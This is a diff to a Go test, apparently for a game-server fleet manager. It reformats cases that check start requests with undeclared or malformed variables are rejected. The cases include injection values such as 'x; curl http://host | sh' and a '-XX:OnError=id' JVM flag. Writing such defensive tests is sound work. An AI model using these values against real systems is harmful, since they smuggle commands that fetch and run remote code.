@@ -19,16 +19,33 @@ func TestOnlyDeclaredVariablesAreGivenAtStart(t *testing.T) {
 	s := newSite(t)
 	s.group("lobby", map[string]any{"command": `java -Dmotd="%motd%" -jar server.jar %text%`, "variableValues": map[string]string{"free": "x"}, "maxInstances": 100})
 	declared := []fleet.Variable{
-		{Key: "motd", Type: fleet.VariableString, Scope: fleet.ScopeInstance}, {Key: "text", Type: fleet.VariableText, Scope: fleet.ScopeInstance},
-		{Key: "group", Type: fleet.VariableString, Scope: fleet.ScopeGroup}, secretVariable("pw", fleet.ScopeInstance),
+		{Key: "motd", Type: fleet.VariableString, Scope: fleet.ScopeInstance},
+		{Key: "text", Type: fleet.VariableText, Scope: fleet.ScopeInstance},
+		{Key: "group", Type: fleet.VariableString, Scope: fleet.ScopeGroup},
+		secretVariable("pw", fleet.ScopeInstance),
 	}
 	s.startWith("any", "x").want(422).naming("variables.any") // also while nothing is declared
 	s.defining("lobby", declared...)
 	before := s.revision()
 	for _, c := range []struct{ key, value string }{
-		{"PORT", "x; curl http://host | sh"}, {"PORT_QUERY", "1"}, {"INSTANCE_NAME", "x"}, {"any", "x"}, {"free", "y"}, {"group", "x"},
-		{"motd", "a\nb"}, {"motd", "a\rb"}, {"motd", "a\x1bb"}, {"motd", "a\u2028b"}, {"motd", "a\u0085b"}, {"motd", "a\x00b"}, {"text", "a\x00b"}, {"text", "a\x1bb"}, {"pw", "a\nb"},
-		{"motd", strings.Repeat("x", 64<<10)}, {"text", strings.Repeat("x", 64<<10)}, {"text", "-XX:OnError=id"},
+		{"PORT", "x; curl http://host | sh"},
+		{"PORT_QUERY", "1"},
+		{"INSTANCE_NAME", "x"},
+		{"any", "x"},
+		{"free", "y"},
+		{"group", "x"},
+		{"motd", "a\nb"},
+		{"motd", "a\rb"},
+		{"motd", "a\x1bb"},
+		{"motd", "a\u2028b"},
+		{"motd", "a\u0085b"},
+		{"motd", "a\x00b"},
+		{"text", "a\x00b"},
+		{"text", "a\x1bb"},
+		{"pw", "a\nb"},
+		{"motd", strings.Repeat("x", 64<<10)},
+		{"text", strings.Repeat("x", 64<<10)},
+		{"text", "-XX:OnError=id"},
 	} {
 		s.startWith(c.key, c.value).want(422).naming("variables")
 	}
